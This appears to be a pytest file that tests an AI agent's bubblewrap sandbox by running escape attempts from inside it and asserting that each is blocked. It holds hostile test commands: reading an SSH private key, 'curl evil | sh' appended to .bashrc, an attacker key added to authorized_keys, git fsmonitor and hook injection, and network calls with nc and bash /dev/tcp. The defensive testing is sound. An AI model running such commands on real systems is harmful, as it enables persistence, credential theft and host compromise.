"""The sandbox's boundary, tried as an attacker would, from inside, as root and as an unprivileged user.

Each test runs real commands in a real bubblewrap sandbox through ``tests/support/sandbox_probe.py``,
started both ways the agent starts one (its own spawn, an editor terminal's command line): as the
test's own user, and again as ``nobody`` (``setpriv``) where the tests run as root — the case
devcontainers, CI and root VMs are in, where bubblewrap used to keep every capability. Skipped with
the reason where bubblewrap is missing or cannot create namespaces.
"""

from __future__ import annotations

import json
import os
import platform
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from acp_hermes_tools.sandbox import Bubblewrap, _probe, detect
from acp_hermes_tools.seccomp import filter_file
from tests.support.listeners import answering

STATUS = detect()
ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.skipif(not STATUS.available, reason=f"no OS sandbox here: {STATUS.detail}")
NOBODY = 65534


def _unprivileged_reason() -> str | None:
    if os.geteuid() != 0:
        return "the tests already run unprivileged"
    if shutil.which("setpriv") is None:
        return "setpriv (util-linux) is not installed"
    probe = subprocess.run([*_as(NOBODY), sys.executable, "-c", "import tools.sandbox"], cwd=ROOT,
                           capture_output=True, text=True, check=False)
    return None if probe.returncode == 0 else f"an unprivileged user cannot run this checkout: {probe.stderr[-200:]}"


def _as(uid: int | None) -> list[str]:
    return [] if uid is None else ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--"]


@pytest.fixture(params=["own user", "unprivileged"])
def user(request: pytest.FixtureRequest) -> int | None:
    if request.param == "own user":
        return None
    reason = _unprivileged_reason()
    if reason:
        pytest.skip(reason)
    return NOBODY


@pytest.fixture(params=["direct", "terminal"])
def launch(request: pytest.FixtureRequest) -> str:
    """How the sandbox is started: by the agent itself (bubblewrap first, the filter passed as a descriptor)
    or as the one command line an editor's terminal runs (``env -i``, a shell that opens the filter)."""
    return str(request.param)


@pytest.fixture
def places(user: int | None) -> Iterator[dict[str, Path]]:
    """A workspace, a home with a key and an agent home, in a folder the probe's user owns."""
    base = Path(tempfile.mkdtemp(prefix="sandbox-boundary-"))
    places = {name: base / name for name in ("workspace", "home", "outside")}
    places["hermes"] = places["home"] / ".hermes"
    for path in places.values():
        path.mkdir(parents=True)
    (places["home"] / ".ssh").mkdir()
    (places["home"] / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    (places["hermes"] / "config.yaml").write_text("sandbox: auto\n")
    if user is not None:
        for path in [base, *base.rglob("*")]:
            os.chown(path, user, user)
    try:
        yield places
    finally:
        shutil.rmtree(base, ignore_errors=True)


def probe(user: int | None, launch: str, places: dict[str, Path], commands: list[str],
          **extra: Any) -> list[dict[str, Any]]:
    spec = {"workspace": str(places["workspace"]), "home": str(places["home"]), "hermes": str(places["hermes"]),
            "commands": commands, "launch": launch, **extra}
    done = subprocess.run([*_as(user), sys.executable, "-m", "tests.support.sandbox_probe", json.dumps(spec)],
                          cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert "unavailable" not in report, report
    results: list[dict[str, Any]] = report["results"]
    return results


def test_no_capabilities_so_the_confinement_cannot_be_undone(user: int | None, places: dict[str, Path],
                                                             launch: str) -> None:
    home = places["home"]
    caps, remount, unhide, nested, key = probe(user, launch, places, [
        "grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status",
        "mount -o remount,rw / 2>&1; echo rc=$?",
        f"umount {home}/.ssh 2>&1; echo rc=$?",
        "unshare -Urm sh -c 'mount -o remount,rw / && echo REMOUNTED' 2>&1; echo rc=$?",
        f"cat {home}/.ssh/id_ed25519",
    ])
    status = dict(line.split(":\t") for line in caps["out"].splitlines())
    assert int(status["CapEff"], 16) == 0 and status["NoNewPrivs"] == "1" and status["Seccomp"] == "2"
    assert "rc=0" not in remount["out"] and "rc=0" not in unhide["out"]
    assert "REMOUNTED" not in nested["out"]
    assert key["code"] != 0 and "PRIVATE KEY" not in key["out"]


@pytest.fixture
def host_socket(places: dict[str, Path], user: int | None) -> Iterator[Path]:
    """A Unix socket outside the sandbox that answers whoever connects: an ssh-agent stands in."""
    path = places["outside"] / "agent.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    os.chmod(path, 0o777)
    with answering(server, b"SECRET-AGENT"):
        yield path


CONNECT = "import socket; s = socket.socket(socket.AF_UNIX); s.connect('{0}'); print(s.recv(20))"


def test_host_unix_sockets_are_out_of_reach(user: int | None, places: dict[str, Path], launch: str,
                                            host_socket: Path) -> None:
    outside = subprocess.run(["python3", "-c", CONNECT.format(host_socket)], capture_output=True, text=True,
                             check=False)
    assert "SECRET-AGENT" in outside.stdout  # the socket works outside the sandbox
    connect, pair, listed = probe(user, launch, places, [
        f'python3 -c "{CONNECT.format(host_socket)}"',
        "python3 -c \"import socket; a, b = socket.socketpair(); a.send(b'ok'); print(b.recv(2))\"",
        f"ls {host_socket}",
    ])
    assert connect["code"] != 0 and "SECRET-AGENT" not in connect["out"]
    assert "Permission denied" in connect["err"]
    assert pair["code"] == 0 and "ok" in pair["out"]  # an unnamed pair reaches nothing: it stays allowed
    assert listed["code"] == 0  # the path is visible, just unusable


@pytest.fixture
def host_datagram_socket(places: dict[str, Path]) -> Iterator[tuple[Path, socket.socket]]:
    """A named datagram socket outside the sandbox, as ``/dev/log`` (syslog) is."""
    path = places["outside"] / "log.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    server.bind(str(path))
    os.chmod(path, 0o777)
    server.setblocking(False)
    try:
        yield path, server
    finally:
        server.close()


def _received(server: socket.socket) -> list[bytes]:
    messages = []
    while True:
        try:
            messages.append(server.recv(100))
        except BlockingIOError:
            return messages


# Every way to a named or abstract Unix socket after socket(AF_UNIX) is refused, each printing what it got.
REACH = {
    "datagram pair, sendto": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'SENT', '{0}')",
    "datagram pair, connect": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.connect('{0}'); "
                              "a.send(b'SENT')",
    "stream pair, sendto": "a, b = socket.socketpair(); a.sendto(b'SENT', '{0}')",
    "stream pair, connect": "a, b = socket.socketpair(); a.connect('{0}'); a.send(b'SENT')",
    "seqpacket pair, sendmsg": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET); "
                               "a.sendmsg([b'SENT'], [], 0, '{0}'); print('PEER', b.recv(9))",
    "abstract, datagram pair": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); "
                               "a.sendto(b'SENT', '\\0acp-hermes-abstract')",
    "abstract, stream pair": "a, b = socket.socketpair(); a.connect('\\0acp-hermes-abstract')",
    "vsock": "socket.socket(40, socket.SOCK_STREAM)",
}


@pytest.mark.parametrize("network", [False, True], ids=["no network", "network on"])
def test_no_way_leads_to_a_unix_socket_outside(user: int | None, places: dict[str, Path], launch: str,
                                              host_datagram_socket: tuple[Path, socket.socket], network: bool) -> None:
    path, server = host_datagram_socket
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)  # the network on: the host's abstract names
    abstract.bind("\0acp-hermes-abstract")
    abstract.setblocking(False)
    try:
        commands = [f"python3 -c \"import socket; {code.format(path)}\"" for code in REACH.values()]
        results = probe(user, launch, places, commands, network=network)
        for name, result in zip(REACH, results, strict=True):
            if name == "seqpacket pair, sendmsg":  # the address is ignored: it goes to its own peer
                assert "PEER b'SENT'" in result["out"], result
            else:
                assert result["code"] != 0, (name, result)
        assert _received(server) == [] and _received(abstract) == []
    finally:
        abstract.close()


SYSCALL = "python3 -c \"import ctypes, os; n = ctypes.CDLL(None, use_errno=True).syscall({0}); " \
          "print(n, os.strerror(ctypes.get_errno()))\""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the system call numbers below are x86-64's")
def test_the_ways_around_the_socket_rule_are_closed(user: int | None, places: dict[str, Path],
                                                    launch: str) -> None:
    io_uring, keyring, x32, getpid = probe(user, launch, places, [
        SYSCALL.format("425, 8, 0"),  # io_uring_setup: io_uring can make sockets without socket()
        SYSCALL.format("250, 0, 0"),  # keyctl: a session keyring may hold secrets
        SYSCALL.format("0x40000000 | 39"),  # getpid through the x32 table the filter does not check
        SYSCALL.format("39"),
    ])
    assert io_uring["out"].strip() == "-1 Operation not permitted"
    assert keyring["out"].strip() == "-1 Operation not permitted"
    assert x32["out"].strip() == "-1 Function not implemented"
    assert int(getpid["out"].split()[0]) > 0


def test_the_environment_is_an_allowlist(user: int | None, places: dict[str, Path], launch: str) -> None:
    environ = {
        "PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(places["home"]), "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8",
        "TERM": "xterm", "SSH_AUTH_SOCK": "/run/user/1000/ssh-agent", "DBUS_SESSION_BUS_ADDRESS": "unix:path=/x",
        "DISPLAY": ":0", "WAYLAND_DISPLAY": "wayland-0", "XDG_RUNTIME_DIR": "/run/user/1000",
        "GITHUB_TOKEN": "ghp_secret", "AWS_SECRET_ACCESS_KEY": "aws-secret", "ANTHROPIC_API_KEY": "sk-ant-secret",
        "https_proxy": "http://user:pass@proxy:3128", "NO_PROXY": "localhost",
    }
    (offline,) = probe(user, launch, places, ["env"], environ=environ)
    (online,) = probe(user, launch, places, ["env"], environ=environ, network=True)
    seen = dict(line.split("=", 1) for line in offline["out"].splitlines() if "=" in line)
    assert {"PATH", "HOME", "LANG", "LC_ALL", "TERM", "NO_PROXY", "TMPDIR", "XDG_CACHE_HOME"} <= set(seen)
    for name in ("SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY", "WAYLAND_DISPLAY", "XDG_RUNTIME_DIR",
                 "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "ANTHROPIC_API_KEY", "https_proxy"):
        assert name not in seen, name
    assert "secret" not in offline["out"]
    assert "https_proxy=http://user:pass@proxy:3128" in online["out"]  # the network is on: its proxy goes with it


def test_nothing_of_the_agents_environment_is_readable_inside(user: int | None, places: dict[str, Path],
                                                              launch: str) -> None:
    secrets = {"ANTHROPIC_API_KEY": "sk-ant-agent-secret", "GITHUB_TOKEN": "ghp_agentsecret",
               "AWS_SECRET_ACCESS_KEY": "aws-agent-secret"}
    (looked, descriptors) = probe(user, launch, places, [
        "for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do echo \"== $f\"; tr '\\0' '\\n' < $f; done",
        "ls /proc/self/fd",
    ], process_environ=secrets)
    assert "== /proc/1/environ" in looked["out"]  # bubblewrap's own process is there, and readable
    for name, secret in secrets.items():
        assert secret not in looked["out"] and name not in looked["out"], name
    assert descriptors["out"].split() == ["0", "1", "2", "3"]  # ls's own directory descriptor is the 3


# Opens every file a kernel setting lives in for writing, writing nothing: a refused open is the boundary.
KNOBS = (
    "python3 -c \"import os\nopened = []\n"
    "for top in ('/proc/sys', '/sys/kernel', '/sys/fs', '/sys/power', '/sys/module', '/proc/sysrq-trigger'):\n"
    "  for folder, _, files in os.walk(top) if os.path.isdir(top) else [('/proc', [], ['sysrq-trigger'])]:\n"
    "    for name in files:\n"
    "      path = os.path.join(folder, name)\n"
    "      try: os.close(os.open(path, os.O_WRONLY)); opened.append(path)\n"
    "      except OSError: pass\n"
    "print('OPENED', len(opened), opened[:5])\""
)


def test_the_hosts_kernel_settings_are_out_of_reach(user: int | None, places: dict[str, Path],
                                                    launch: str) -> None:
    uid, knobs = probe(user, launch, places, ["id -u", KNOBS])
    assert uid["out"].strip() != "0"  # root outside is not root inside
    assert knobs["out"].startswith("OPENED 0 []"), knobs  # core_pattern among them: nothing was written


@pytest.fixture
def listener() -> Iterator[int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    with answering(server, b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nREACHED"):
        yield server.getsockname()[1]


def test_no_network_by_any_means(user: int | None, places: dict[str, Path], launch: str, listener: int) -> None:
    url = f"http://127.0.0.1:{listener}/"
    attempts = {
        "python": f"python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {listener}), 3); "
                  "print(s.recv(99))\"",
        "bash /dev/tcp": f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{listener}; cat <&3'",
        "curl": f"curl -sS --max-time 3 {url}",
        "wget": f"wget -q -O- -T 3 {url}",
        "nc": f"nc -w 3 127.0.0.1 {listener} </dev/null",
    }
    present = {name: command for name, command in attempts.items() if shutil.which(name.split()[0])}
    assert "python" in present and "bash /dev/tcp" in present
    results = probe(user, launch, places, list(present.values()))
    for name, result in zip(present, results, strict=True):
        assert "REACHED" not in result["out"], name
    (allowed,) = probe(user, launch, places, [present["python"]], network=True)
    assert "REACHED" in allowed["out"]


def test_what_runs_later_outside_is_read_only_and_what_is_planted_is_moved_out(
    user: int | None, places: dict[str, Path], launch: str
) -> None:
    workspace = places["workspace"]
    subprocess.run([*_as(user), "git", "init", "-q", str(workspace)], check=True)
    subprocess.run([*_as(user), "git", "init", "-q", str(workspace / "sub")], check=True)
    for name, text in ((".envrc", "export A=1\n"), (".mcp.json", "{}\n")):
        (workspace / name).write_text(text)
    (workspace / ".vscode").mkdir()
    if user is not None:
        for path in [workspace, *workspace.rglob("*")]:
            os.chown(path, user, user)
    results = probe(user, launch, places, [
        "git config core.fsmonitor 'touch PWNED'",
        "echo 'touch PWNED' > .git/hooks/pre-commit",
        "python3 -c \"open('sub/.git/config', 'a').write('[core]\\n\\tfsmonitor = touch PWNED\\n')\"",
        "echo 'touch PWNED' >> .envrc; echo '{}' > .vscode/tasks.json; echo x >> .mcp.json",
        "python3 -c \"import os; os.makedirs('new/.git/hooks'); open('new/.git/config', 'w')"
        ".write('[core]\\n\\tfsmonitor = touch PWNED\\n'); open('new/.hermes', 'w').write('x')\"",
        "git init -q fresh",
    ])
    for result in results[:4]:
        assert result["code"] != 0 and "Read-only file system" in result["err"], result
    assert set(results[4]["moved"]) == {str(workspace / "new" / ".git"), str(workspace / "new" / ".hermes")}
    assert results[5]["moved"] == [] and (workspace / "fresh" / ".git").is_dir()  # inert: git made it
    assert not (workspace / "new" / ".git").exists()
    assert (workspace / ".envrc").read_text() == "export A=1\n"
    assert "fsmonitor" not in (workspace / ".git" / "config").read_text()
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=workspace / "sub", capture_output=True, check=True)
    assert not list(workspace.rglob("PWNED"))


def test_a_workspace_that_holds_the_home_folder_does_not_unhide_it(user: int | None, places: dict[str, Path],
                                                                   launch: str) -> None:
    home = places["home"]
    (home / ".bashrc").write_text("# mine\n")
    if user is not None:
        os.chown(home / ".bashrc", user, user)
    places = {**places, "workspace": home}
    key, config, profile, authorized, note = probe(user, launch, places, [
        "cat .ssh/id_ed25519",
        "echo 'sandbox: off' >> .hermes/config.yaml; cat .hermes/config.yaml",
        "echo 'curl evil | sh' >> .bashrc",
        "echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys",
        "echo fine > notes.txt && cat notes.txt",
    ])
    assert key["code"] != 0 and "PRIVATE KEY" not in key["out"]
    assert "sandbox: auto" not in config["out"] and (places["hermes"] / "config.yaml").read_text() == "sandbox: auto\n"
    assert profile["code"] != 0 and (home / ".bashrc").read_text() == "# mine\n"
    assert authorized["code"] != 0 and not (home / ".ssh" / "authorized_keys").exists()
    assert note["code"] == 0  # the rest of the folder is the workspace


def test_a_bubblewrap_that_keeps_capabilities_is_no_sandbox(tmp_path: Path) -> None:
    seccomp = filter_file()
    assert seccomp is not None
    held = "ProcSys: read-only\n"
    for status, expected in (("CapEff:\t000001ffffffffff\nSeccomp:\t2\n" + held, "cannot drop every capability"),
                             ("CapEff:\t0000000000000000\nSeccomp:\t0\n" + held, "did not load the seccomp filter"),
                             ("CapEff:\t0000000000000000\nSeccomp:\t2\nProcSys: writable\n", "/proc/sys writable"),
                             ("CapEff:\t0000000000000000\nSeccomp:\t2\n" + held, "")):
        fake = tmp_path / "bwrap"
        fake.write_text(f"#!/bin/sh\nprintf '{status}'\n")
        fake.chmod(0o755)
        found = _probe(Bubblewrap(str(fake)), seccomp)
        assert expected in found if expected else found == ""
